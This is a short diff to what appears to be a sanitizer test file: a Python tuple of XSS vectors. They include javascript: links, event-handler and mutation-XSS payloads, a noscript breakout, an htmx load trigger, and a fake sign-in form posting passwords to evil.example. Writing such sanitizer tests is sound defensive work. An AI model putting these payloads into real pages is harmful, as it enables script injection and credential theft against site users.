@@ -29,7 +29,7 @@ VECTORS = (
     "<javascript:alert(1)>",
     '<https://x.example/" onclick="alert(1)>',
     "<svg onload=alert(1)><animate onbegin=alert(1)>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
+    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">',
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     '<a href="javascript:alert(1)" hx-get="/x" hx-trigger=load>x</a>',
     "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
